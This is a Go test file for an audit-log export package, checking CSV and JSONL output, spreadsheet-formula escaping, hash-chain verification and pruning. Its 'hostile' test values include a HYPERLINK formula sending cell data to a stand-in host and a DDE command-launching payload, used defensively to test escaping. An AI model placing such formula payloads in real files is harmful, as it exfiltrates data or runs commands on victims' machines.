package audit

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/writeback/writeback/store"
)

func newDB(t *testing.T) *store.DB {
	t.Helper()
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), store.FileName))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	if _, err := db.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	return db
}

func record(t *testing.T, db *store.DB, entries ...Entry) []store.AuditEvent {
	t.Helper()
	ctx := context.Background()
	var out []store.AuditEvent
	err := db.InTx(ctx, func(tx *store.Tx) error {
		for _, e := range entries {
			ev, err := Record(ctx, tx, e)
			if err != nil {
				return err
			}
			out = append(out, ev)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// hostile holds values that break a naive CSV writer or run as formulas.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(A1:A9)`,
	"\tleading tab",
	"\rleading CR",
	`comma, inside`,
	`"quoted" and "more"`,
	"multi\nline\r\nvalue",
	`plain`,
	`Zoë Müller 名前`,
	``,
}

func TestWriteCSVHostileValues(t *testing.T) {
	ctx := context.Background()
	db := newDB(t)
	var entries []Entry
	for _, h := range hostile {
		entries = append(entries, Entry{
			Category: CategoryUserManagement, Activity: ActivityResetByAdmin,
			Actor:  Actor{Type: "admin", ID: "1", Name: h, ClientIP: "192.0.2.1", UserAgent: h},
			Target: Target{Type: "User", ID: "u1", DN: "CN=" + h + ",DC=example", Name: h},
			Result: Failure, Reason: h, CorrelationID: "c-" + h,
			Details: map[string]any{"note": h},
		})
	}
	evs := record(t, db, entries...)

	var buf bytes.Buffer
	n, err := WriteCSV(ctx, &buf, db, store.AuditFilter{})
	if err != nil || n != int64(len(hostile)) {
		t.Fatalf("WriteCSV = %d, %v", n, err)
	}
	body, ok := strings.CutPrefix(buf.String(), "\ufeff")
	if !ok {
		t.Fatal("no UTF-8 byte-order mark")
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the output is not valid CSV: %v", err)
	}
	if strings.Join(recs[0], ",") != strings.Join(CSVHeader, ",") || len(recs) != len(hostile)+1 {
		t.Fatalf("header %v, %d records", recs[0], len(recs))
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for i, h := range hostile {
		rec := recs[i+1]
		want := h
		if h != "" && strings.ContainsAny(h[:1], "=+-@\t\r") {
			want = "'" + h
		}
		// encoding/csv reads \r\n inside a quoted field back as \n.
		want = strings.ReplaceAll(want, "\r\n", "\n")
		for _, c := range []string{"actor_name", "target_name", "reason", "user_agent"} {
			if got := rec[col[c]]; got != want {
				t.Errorf("row %d %s = %q, want %q", i, c, got, want)
			}
		}
		for _, cell := range rec {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("row %d: cell %q would run as a formula", i, cell)
			}
		}
		if rec[col["id"]] != itoa(evs[i].ID) || rec[col["hash"]] != evs[i].Hash || rec[col["time"]] != formatTime(evs[i].TimeMS) {
			t.Errorf("row %d: id/hash/time %v", i, rec)
		}
		var d map[string]string
		if err := json.Unmarshal([]byte(rec[col["details"]]), &d); err != nil || d["note"] != h {
			t.Errorf("row %d details %q: %v", i, rec[col["details"]], err)
		}
	}
}

func itoa(n int64) string { b, _ := json.Marshal(n); return string(b) }

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"a=b": "a=b", "": "", "'quoted": "'quoted", " =x": " =x",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriteJSONLRoundTrip: every line decodes to the stored event, details
// as a nested object, and the hash chain can be checked from the file alone.
func TestWriteJSONLRoundTrip(t *testing.T) {
	ctx := context.Background()
	db := newDB(t)
	var entries []Entry
	for i, h := range hostile {
		entries = append(entries, Entry{
			Category: CategoryPolicy, Activity: ActivityUpdateSSPRPolicy,
			Actor:  Actor{Type: "admin", ID: "7", Name: h, ClientIP: "2001:db8::1", UserAgent: "ua <&>"},
			Target: Target{Type: "Policy", ID: "sspr", Name: h},
			Reason: h, CorrelationID: h,
			Details: map[string]any{"min_length": Change{Old: 8, New: 8 + i}, "note": h, "html": "<b>&</b>"},
		})
	}
	stored := record(t, db, entries...)

	var buf bytes.Buffer
	n, err := WriteJSONL(ctx, &buf, db, store.AuditFilter{})
	if err != nil || n != int64(len(stored)) {
		t.Fatalf("WriteJSONL = %d, %v", n, err)
	}
	sc := bufio.NewScanner(&buf)
	prev := store.GenesisHash
	i := 0
	for sc.Scan() {
		line := sc.Bytes()
		var raw map[string]any
		if err := json.Unmarshal(line, &raw); err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		if _, ok := raw["details"].(map[string]any); !ok {
			t.Fatalf("line %d: details is %T, want an object", i, raw["details"])
		}
		for _, k := range []string{"id", "time", "time_ms", "actor_name", "target_dn", "correlation_id", "prev_hash", "hash", "client_ip", "user_agent"} {
			if _, ok := raw[k]; !ok {
				t.Errorf("line %d: no %q", i, k)
			}
		}
		var j JSONEvent
		if err := json.Unmarshal(line, &j); err != nil {
			t.Fatal(err)
		}
		got := j.Event()
		if got != stored[i] {
			t.Fatalf("line %d round trip:\ngot  %+v\nwant %+v", i, got, stored[i])
		}
		if got.PrevHash != prev || store.ContentHash(got) != got.Hash {
			t.Fatalf("line %d: chain does not verify from the export", i)
		}
		prev = got.Hash
		i++
	}
	if i != len(stored) {
		t.Fatalf("%d lines, want %d", i, len(stored))
	}
}

func TestRecordKeepsDetailsReadable(t *testing.T) {
	db := newDB(t)
	ev := record(t, db, Entry{Category: CategoryPolicy, Activity: ActivityUpdateSSPRPolicy, Actor: System,
		Details: map[string]any{"team": "R&D <ops>"}})[0]
	if ev.Details != `{"team":"R&D <ops>"}` {
		t.Fatalf("details = %s", ev.Details)
	}
	page, _, err := db.QueryAudit(context.Background(), store.AuditFilter{Text: "R&D <ops>"}, store.Cursor{}, 10)
	if err != nil || len(page) != 1 {
		t.Fatalf("free text for R&D: %d, %v", len(page), err)
	}
}

// failingWriter fails after some bytes, as a closed HTTP response does.
type failingWriter struct{ left int }

var errGone = errors.New("client went away")

func (w *failingWriter) Write(p []byte) (int, error) {
	if w.left < len(p) {
		return 0, errGone
	}
	w.left -= len(p)
	return len(p), nil
}

func TestExportStopsOnWriteError(t *testing.T) {
	ctx := context.Background()
	db := newDB(t)
	var many []Entry
	for i := range 5000 {
		many = append(many, Entry{Category: CategoryUserManagement, Activity: ActivityResetSelfService,
			Actor: Actor{Type: "user", ID: "u1"}, Details: map[string]any{"i": i}})
	}
	record(t, db, many...)
	if _, err := WriteCSV(ctx, &failingWriter{left: 100_000}, db, store.AuditFilter{}); !errors.Is(err, errGone) {
		t.Fatalf("csv err = %v", err)
	}
	if _, err := WriteJSONL(ctx, &failingWriter{left: 100_000}, db, store.AuditFilter{}); !errors.Is(err, errGone) {
		t.Fatalf("jsonl err = %v", err)
	}
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := WriteCSV(cctx, &bytes.Buffer{}, db, store.AuditFilter{}); !errors.Is(err, context.Canceled) {
		t.Fatalf("canceled: err = %v", err)
	}
	// The full export still works and counts every row.
	var buf bytes.Buffer
	if n, err := WriteCSV(ctx, &buf, db, store.AuditFilter{}); err != nil || n != 5000 {
		t.Fatalf("full = %d, %v", n, err)
	}
}

func TestPruneHelper(t *testing.T) {
	ctx := context.Background()
	db := newDB(t)
	record(t, db, Entry{Category: CategoryPolicy, Activity: ActivityUpdateSSPRPolicy, Actor: System})
	removed, err := Prune(ctx, db, time.Now().Add(time.Hour), CommandLine)
	if err != nil || removed != 1 {
		t.Fatalf("Prune = %d, %v", removed, err)
	}
	page, _, _ := db.QueryAudit(ctx, store.AuditFilter{Activities: []string{ActivityPruneAudit}}, store.Cursor{}, 5)
	if len(page) != 1 || page[0].ActorType != "cli" || page[0].Category != CategoryAuditLog {
		t.Fatalf("prune event: %+v", page)
	}
	if res, err := db.VerifyAudit(ctx); err != nil || !res.OK {
		t.Fatalf("verify: %+v, %v", res, err)
	}
}
